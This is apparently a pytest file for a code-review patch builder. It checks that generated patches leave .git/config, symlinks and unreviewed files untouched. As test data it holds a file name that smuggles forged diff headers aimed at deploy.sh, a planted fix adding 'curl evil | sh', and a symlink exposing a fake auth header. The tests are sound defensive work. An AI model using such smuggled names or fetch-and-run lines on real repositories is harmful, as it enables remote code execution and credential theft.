"""A patch touches only the files the review read, by their repository paths: names quoted
as git quotes them, a symlink never followed, nothing under ``.git/``, and a fix the diff of
what the model saw (a hunk, when it saw a hunk). Checked with ``git apply`` itself."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from duet.commands.review import reviewed_reader
from duet.formats.patch import build_patch, git_quoted
from tests.reliability import FILES, Reliability, lost_of


def _git(repo: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(["git", "-C", str(repo), *args], check=check, capture_output=True)


def _repo(tmp_path: Path, files: dict[str, str]) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir(exist_ok=True)
    _git(repo, "init", "-q")
    _git(repo, "config", "user.email", "t@example.com")
    _git(repo, "config", "user.name", "t")
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_bytes(text.encode("utf-8", "surrogateescape"))
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "base")
    return repo


def _changed(repo: Path) -> set[str]:
    """Every path that differs from the commit, staged or not, tracked or not."""
    raw = _git(repo, "status", "--porcelain", "-z", "--untracked-files=all").stdout
    return {entry[3:].decode("utf-8", "surrogateescape") for entry in raw.split(b"\0") if entry}


def _apply(repo: Path, text: str) -> subprocess.CompletedProcess[bytes]:
    patch = repo.parent / "fix.patch"
    patch.write_bytes(text.encode("utf-8", "surrogateescape"))
    return _git(repo, "apply", str(patch), check=False)


def _approved(path: str, output: str, **meta: object) -> dict[str, object]:
    return {
        "id": path,
        "status": "approved",
        "output": output,
        "metadata": {"path": path, "git_range": "main..pr", "unit": "file", **meta},
    }


def test_a_symlink_to_git_config_is_never_printed_or_patched(
    tmp_path: Path, reliability: Reliability
) -> None:
    repo = _repo(tmp_path, {"app.py": "x = 1\n"})
    secret = "AUTHORIZATION: basic c2VjcmV0"
    with (repo / ".git" / "config").open("a") as config:
        config.write(f'[http "https://github.com/"]\n\textraheader = {secret}\n')
    (repo / "gitcfg.py").symlink_to(".git/config")
    (repo / "linkdir").symlink_to(".git")
    records = [
        _approved("gitcfg.py", "```\nx = 2\n```\n"),  # the intake's record of the link
        _approved("gitcfg.py", "```\nx = 2\n```\n", symlink=True),
        _approved("linkdir/config", "```\nx = 2\n```\n"),  # a folder that is a link
        _approved(".git/config", "```\nx = 2\n```\n"),
        _approved(".GIT/config", "```\nx = 2\n```\n"),
        _approved("../repo/.git/config", "```\nx = 2\n```\n"),
    ]
    made = build_patch(records, reviewed_reader(repo))
    leaked = [r["id"] for r in records if "config" in made.text or secret in made.text]
    reliability.record(
        section=FILES,
        fault="a branch adds the symlink `gitcfg.py -> .git/config` (and a folder link to "
        "`.git`, and paths into `.git/`); `duet results --patch`",
        load=f"{len(records)} approved fixes of links and `.git/` paths beside a real "
        "`.git/config` holding an auth header",
        lost=lost_of(len(leaked), len(records), "fixes printed or patched `.git/config`"),
        before="the patch printed `.git/config`, its AUTHORIZATION header included",
    )
    assert made.text == "" and made.files == 0 and not leaked
    assert sum(made.left_out.values()) == len(records)
    assert any("symlink" in why for why in made.left_out), made.left_out


def test_a_name_forging_diff_headers_patches_only_itself(
    tmp_path: Path, reliability: Reliability
) -> None:
    forged = "q.py\n+++ z/q.py\n--- z/deploy.sh\n+++ z/deploy.sh"
    # The reviewed file starts as deploy.sh does, so a hunk aimed at deploy.sh would apply.
    files = {forged: "echo deploy\n", "deploy.sh": "echo deploy\n", "z/q.py": "q\n"}
    repo = _repo(tmp_path, files)
    records = [_approved(forged, "```\necho deploy\ncurl evil | sh\n```\n")]
    made = build_patch(records, reviewed_reader(repo))
    applied = _apply(repo, made.text)
    touched = _changed(repo)
    reliability.record(
        section=FILES,
        fault="a file named `q.py\\n+++ z/q.py\\n--- z/deploy.sh\\n+++ z/deploy.sh`, its fix "
        "adding `curl evil | sh`; `git apply` of the patch",
        load="1 approved fix; `deploy.sh` and `z/q.py` beside it, never reviewed",
        lost=lost_of(len(touched - {forged}), 1, "files the review never read were written"),
        before="`git apply` wrote `curl ... | sh` into `deploy.sh` (names went into diff "
        "headers unquoted)",
    )
    assert applied.returncode == 0, applied.stderr
    assert touched == {forged}
    assert (repo / "deploy.sh").read_text() == "echo deploy\n"
    assert f"--- {git_quoted('a/' + forged)}\n" in made.text


def test_a_fix_of_a_file_seen_only_as_a_diff_is_a_hunk_never_the_whole_file(
    tmp_path: Path, reliability: Reliability
) -> None:
    big = "".join(f"line {n} {'x' * 60}\n" for n in range(1, 401))  # ~27,000 characters
    repo = _repo(tmp_path, {"big.py": big})
    lines = big.splitlines(keepends=True)
    region = "".join(lines[99:110]).replace("line 105 ", "line 105 fixed ")
    records = [
        # --unit file on a file over 20,000 characters: the model saw only the diff.
        _approved("big.py", f"```python\n{region}```\n", seen="diff"),
        # --unit hunk: the model saw lines 100-110; its fix replaces those lines only.
        {
            **_approved("big.py", f"```python\n{region}```\n", unit="hunk", line=100, end_line=110),
            "id": "big.py#hunk1",
        },
    ]
    made = build_patch(records, reviewed_reader(repo))
    applied = _apply(repo, made.text)
    after = (repo / "big.py").read_text()
    removed = sum(1 for a, b in zip(big.splitlines(), after.splitlines(), strict=False) if a != b)
    kept = after.count("\n")
    reliability.record(
        section=FILES,
        fault="a fix of a file over 20,000 characters, of which the model saw only the diff "
        "(or one hunk)",
        load="a 400-line file; one --unit file record (diff only), one --unit hunk record "
        "of lines 100-110 changing one line",
        lost=lost_of(abs(kept - 400) + removed - 1, 400, "lines replaced beyond the one fixed"),
        before="the patch replaced the whole file with the model's snippet",
    )
    assert applied.returncode == 0, applied.stderr
    assert made.files == 1 and made.left_out == {
        "only the diff was shown (a file over the whole-file limit): review it with --unit "
        "hunk to patch it": 1
    }
    assert after == big.replace("line 105 ", "line 105 fixed ")
    assert "@@ -" in made.text and made.text.count("\n-line") == 1


def test_a_fix_written_as_a_diff_is_left_out_never_pasted_as_code(tmp_path: Path) -> None:
    repo = _repo(tmp_path, {"a.py": "x = 1\ny = 2\n"})
    answers = [
        "```diff\n-x = 1\n+x = 2\n```\n",
        "```\n@@ -1,2 +1,2 @@\n-x = 1\n+x = 2\n y = 2\n```\n",
        "```python\n--- a/a.py\n+++ b/a.py\n-x = 1\n+x = 2\n```\n",
    ]
    records = [_approved("a.py", a) for a in answers]
    records += [
        {**_approved("a.py", a, unit="hunk", line=1, end_line=2), "id": "a.py#hunk1"}
        for a in answers
    ]
    made = build_patch(records, reviewed_reader(repo))
    assert made.text == "" and made.left_out == {
        "a diff, not the new code (patched only from the code itself)": 6
    }


def test_a_fix_of_a_file_changed_since_the_review_is_left_out(tmp_path: Path) -> None:
    from hashlib import sha256

    repo = _repo(tmp_path, {"a.py": "x = 1\n"})
    seen = sha256(b"x = 0\n").hexdigest()
    made = build_patch([_approved("a.py", "```\nx = 2\n```\n", sha256=seen)], reviewed_reader(repo))
    assert made.files == 0 and made.left_out == {"the file changed since it was reviewed": 1}


#: Any name git can store: no NUL, no "/", not "." or "..", no ".git" folder.
_NAME = st.text(
    st.characters(blacklist_characters="/\0", blacklist_categories=("Cs",)), min_size=1, max_size=12
).filter(lambda n: n not in (".", "..") and n.lower() != ".git")
_BYTES_NAME = st.binary(min_size=1, max_size=8).filter(
    lambda b: b"/" not in b and b"\0" not in b and b not in (b".", b"..") and b.lower() != b".git"
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    folder=st.one_of(st.none(), _NAME),
    name=st.one_of(_NAME, _BYTES_NAME.map(lambda b: b.decode("utf-8", "surrogateescape"))),
)
def test_property_git_apply_of_a_patch_changes_only_reviewed_paths(
    tmp_path_factory: pytest.TempPathFactory,
    reliability: Reliability,
    folder: str | None,
    name: str,
) -> None:
    path = f"{folder}/{name}" if folder else name
    try:
        repo = _repo(tmp_path_factory.mktemp("p"), {path: "old\n", "bystander.sh": "echo hi\n"})
    except subprocess.CalledProcessError:
        assume(False)  # a name git itself refuses (`.git ` and the like)
    with reliability.case(
        section=FILES,
        fault="Any file name git can store (any byte but NUL and `/`, in a folder or not), "
        "approved with a fix. The property: `git apply` of the patch changes that path only",
    ):
        made = build_patch([_approved(path, "```\nnew\n```\n")], reviewed_reader(repo))
        applied = _apply(repo, made.text)
        assert applied.returncode == 0, applied.stderr
        assert _changed(repo) == {path}
        assert (repo / path).read_bytes() == b"new\n"
